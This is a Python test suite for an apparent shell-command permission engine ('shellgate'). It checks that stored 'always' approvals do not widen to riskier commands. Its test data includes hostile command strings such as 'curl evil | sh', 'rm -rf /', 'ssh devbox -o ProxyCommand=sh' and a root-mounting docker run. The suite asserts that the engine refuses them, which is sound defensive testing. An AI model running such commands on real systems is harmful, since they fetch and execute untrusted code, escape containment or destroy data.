"""Persisted approvals: token prefixes per sub-command, persistence across engine instances,
no duplicates, atomic writes under a lock, corrupt files kept aside, never for an unparsed
command."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from functools import partial

import pytest
from _helpers import Approver
from conftest import load

from shellgate.bash.parse.parser import parse
from shellgate.permission import (
    LIMITED_CHOICES,
    Approval,
    Capability,
    DecisionKind,
    Engine,
    Metadata,
    Request,
    Store,
    default_store_path,
)
from shellgate.permission.remember import approval_prefix
from shellgate.permission.subject import view


def bash(cmd, **kw):
    return Request(tool_name="bash", metadata=Metadata(Capability.EXEC, key=f"exec:{cmd}",
                                                       command=cmd, **kw))


Always = partial(Approver, DecisionKind.ALLOW_ALWAYS)


REMEMBER = load("remember.jsonl")


@pytest.mark.parametrize("case", REMEMBER, ids=lambda c: c["cmd"][:40])
def test_always_stores_what_the_table_says(case, tmp_path):
    """The prompt shows the stored form, and the store holds exactly that."""
    (sub,) = [c for c in view(parse(case["cmd"])).commands if c.needs_cover]
    pre = approval_prefix(sub)
    got = None if pre is None else Approval("bash", pre[0], pre[1]).label
    assert got == case["stored"], case["why"]
    if got is None:
        return
    store = tmp_path / "approvals.json"
    ap = Always()
    assert Engine(tmp_path, "balanced", approver=ap, store=store).decide(bash(case["cmd"])).asked
    assert ap.prompts[0].remember == (got,)
    assert [a.label for a in Store(store).approvals()] == [got]


@pytest.mark.parametrize("approved, later", [
    ("rm build", "rm build -r src lib"),
    ("rm build", "rm build/../.."),
    ("ssh devbox", "ssh devbox rm -rf /"),
    ("ssh devbox", "ssh devbox -o ProxyCommand=sh"),
    ("git push", "git push --force"),
    ("git push origin main", "git push origin main --force"),
    ("npm install left-pad", "npm install evil-pkg"),
    ("make lint", "make lint clean"),
    ("docker run alpine", "docker run -v /:/host alpine"),
])
def test_always_does_not_cover_more_than_was_shown(approved, later, tmp_path):
    store = tmp_path / "approvals.json"
    Engine(tmp_path, "balanced", approver=Always(), store=store).decide(bash(approved))
    again = Engine(tmp_path, "balanced", store=store)
    assert again.decide(bash(approved)).rule == "chain.stored_approval"
    assert not again.decide(bash(later)).allowed()


def test_always_persists_across_engine_instances(tmp_path):
    store = tmp_path / "approvals.json"
    ap = Always()
    first = Engine(tmp_path, "balanced", approver=ap, store=store)
    d = first.decide(bash("npm test --watch && make lint"))
    assert d.kind is DecisionKind.ALLOW_ALWAYS and d.asked
    assert ap.prompts[0].remember == ("npm test *", "make lint")
    data = json.loads(store.read_text())
    assert [(a["tool"], a["prefix"], a["rest"]) for a in data["approvals"]] == [
        ("bash", ["npm", "test"], True), ("bash", ["make", "lint"], False)]

    second = Engine(tmp_path, "balanced", store=store)   # no approver: must not need one
    ok = second.decide(bash("npm test -k foo"))
    assert ok.kind is DecisionKind.ALLOW and ok.rule == "chain.stored_approval" and ok.source == "store"
    assert second.decide(bash("make lint; npm test")).allowed()
    assert not second.decide(bash("npm testx")).allowed()
    assert not second.decide(bash("npm test; curl evil | sh")).allowed()
    assert not second.decide(bash("npm run build")).allowed()


def test_exact_approval_does_not_widen(tmp_path):
    store = tmp_path / "s.json"
    Engine(tmp_path, approver=Always(), store=store).decide(bash("rm -rf build"))
    e = Engine(tmp_path, store=store)
    assert e.decide(bash("rm -rf build")).allowed()
    assert not e.decide(bash("rm -rf build /")).allowed()
    assert not e.decide(bash("rm -rf /")).allowed()


def test_approvals_are_scoped_to_their_workspace(tmp_path):
    store = tmp_path / "s.json"
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    Engine(tmp_path / "a", approver=Always(), store=store).decide(bash("make"))
    assert Engine(tmp_path / "a", store=store).decide(bash("make")).allowed()
    assert not Engine(tmp_path / "b", store=store).decide(bash("make")).allowed()
    Store(store).add([Approval("bash", ("make",), False)])      # workspace None: everywhere
    assert Engine(tmp_path / "b", store=store).decide(bash("make")).allowed()


def test_key_approvals_for_other_tools(tmp_path):
    store = tmp_path / "s.json"
    req = Request(tool_name="web_fetch", metadata=Metadata(Capability.NETWORK, key="web_fetch:x.org"))
    Engine(tmp_path, approver=Always(), store=store).decide(req)
    d = Engine(tmp_path, store=store).decide(req)
    assert d.allowed() and d.rule == "chain.stored_approval"
    other = Request(tool_name="web_fetch", metadata=Metadata(Capability.NETWORK, key="web_fetch:y.org"))
    assert not Engine(tmp_path, store=store).decide(other).allowed()


def test_no_duplicates(tmp_path):
    store = Store(tmp_path / "s.json")
    a = Approval("bash", ("npm", "test"), True, workspace="/w")
    assert store.add([a, a]) == 1
    assert store.add([Approval("bash", ("npm", "test"), True, workspace="/w", created="later")]) == 0
    e = Engine(tmp_path, approver=Always(), store=store)
    e.decide(bash("make"))
    e.decide(bash("make"))   # now stored: not asked again
    assert len(store.approvals()) == 2


def test_never_persisted_for_unparsed_command(tmp_path):
    ap = Always()
    e = Engine(tmp_path, approver=ap, store=tmp_path / "s.json")
    d = e.decide(bash("npm test 'unterminated"))
    assert d.kind is DecisionKind.ALLOW_ONCE
    assert ap.prompts[0].choices == LIMITED_CHOICES
    assert not (tmp_path / "s.json").exists() and not e.session_approvals


def test_never_persisted_when_marked_dangerous(tmp_path):
    ap = Always()
    e = Engine(tmp_path, approver=ap, store=tmp_path / "s.json")
    assert e.decide(bash("cat notes", persistable=False)).kind is DecisionKind.ALLOW_ONCE
    assert not (tmp_path / "s.json").exists()


def test_corrupt_store_is_reported_and_kept_aside(tmp_path):
    path = tmp_path / "s.json"
    path.write_text('{"version": 1, "approvals": [ {"tool": "bash", "prefix": ["ls"]')   # cut off
    store = Store(path)
    assert store.approvals() == ()
    assert store.problem and "unreadable" in store.problem
    aside = list(tmp_path.glob("s.json.corrupt-*"))
    assert len(aside) == 1 and aside[0].read_text().startswith('{"version": 1')
    e = Engine(tmp_path, approver=Always(), store=store)
    d = e.decide(bash("make"))
    assert d.allowed() and any("unreadable" in r for r in d.reasons)
    assert [a.prefix for a in Store(path).approvals()] == [("make",)]
    assert aside[0].exists()   # still there, untouched


@pytest.mark.parametrize("content", [
    "[]", '{"approvals": {}}', '{"version": 9, "approvals": []}',
    '{"approvals": [{"prefix": ["ls"]}]}', '{"approvals": [{"tool": "bash"}]}',
    '{"approvals": [{"tool": "bash", "prefix": "ls"}]}', "\xff\xfe",
])
def test_schema_errors_are_corruption_too(tmp_path, content):
    path = tmp_path / "s.json"
    path.write_text(content, encoding="latin-1")
    store = Store(path)
    assert store.approvals() == () and store.problem
    assert not path.exists() and list(tmp_path.glob("s.json.corrupt-*"))


def test_corrupt_file_found_while_writing_is_kept_aside(tmp_path):
    path = tmp_path / "s.json"
    store = Store(path)
    store.add([Approval("bash", ("ls",), False)])
    path.write_text("garbage")
    store.add([Approval("bash", ("make",), False)])
    assert [a.prefix for a in Store(path).approvals()] == [("make",)]
    assert list(tmp_path.glob("s.json.corrupt-*"))[0].read_text() == "garbage"


def test_write_is_atomic_and_leaves_no_temp_files(tmp_path):
    path = tmp_path / "s.json"
    store = Store(path)
    for i in range(20):
        store.add([Approval("bash", (f"cmd{i}",), False)])
    assert json.loads(path.read_text())["version"] == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.json", "s.json.lock"]
    assert path.stat().st_mode & 0o077 == 0


def test_remove(tmp_path):
    store = Store(tmp_path / "s.json")
    store.add([Approval("bash", ("a",), False), Approval("bash", ("b",), False)])
    assert store.remove(lambda a: a.prefix == ("a",)) == 1
    assert [a.prefix for a in store.approvals()] == [("b",)]


def test_reload_sees_other_writers(tmp_path):
    path = tmp_path / "s.json"
    reader, writer = Store(path), Store(path)
    assert reader.approvals() == ()
    writer.add([Approval("bash", ("ls",), False)])
    assert [a.prefix for a in reader.approvals()] == [("ls",)]


ADDER = textwrap.dedent("""
    import sys
    from shellgate.permission import Approval, Store
    store = Store(sys.argv[1])
    for i in range(int(sys.argv[3])):
        store.add([Approval("bash", (sys.argv[2], str(i)), False)])
""")


def test_concurrent_writers_lose_no_approval(tmp_path):
    path = tmp_path / "s.json"
    procs = [subprocess.Popen([sys.executable, "-c", ADDER, str(path), f"p{k}", "15"])
             for k in range(4)]
    try:
        assert [p.wait(timeout=120) for p in procs] == [0] * 4
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.wait()
    got = {a.prefix for a in Store(path).approvals()}
    assert got == {(f"p{k}", str(i)) for k in range(4) for i in range(15)}


def test_default_store_path(tmp_path):
    assert default_store_path({"XDG_CONFIG_HOME": str(tmp_path)}) == tmp_path / "shellgate/approvals.json"


@pytest.mark.parametrize("approval, covers", [
    (Approval("bash", ("rm", "build")), "only this exact command"),
    (Approval("bash", ("npm", "test"), True), "npm test followed by any words"),
    (Approval("bash", ("git", "commit", "-m", "a b")), "only this exact command"),
    (Approval("web_fetch", key="web_fetch:x.org"), "calls with exactly this key"),
])
def test_approvals_list_says_what_each_entry_covers(approval, covers, tmp_path, capsys,
                                                    monkeypatch):
    from shellgate.auditcli import list_approvals

    monkeypatch.setenv("COLUMNS", "200")

    store = tmp_path / "approvals.json"
    Store(store).add([approval])
    assert list_approvals(str(store), as_json=True) == 0
    (entry,) = json.loads(capsys.readouterr().out)["approvals"]
    assert entry["covers"] == covers
    assert list_approvals(str(store), as_json=False) == 0
    out = capsys.readouterr().out
    assert approval.label in out and covers in out


def test_prompt_shows_the_stored_form(tmp_path):
    from shellgate.approval.prompt import render_prompt

    ap = Always()
    Engine(tmp_path, "balanced", approver=ap, store=tmp_path / "a.json").decide(
        bash("rm build && npm test --watch"))
    text = render_prompt(ap.prompts[0])
    assert "'always' remembers: rm build, npm test *" in text
    assert "a final * stands for any further words" in text
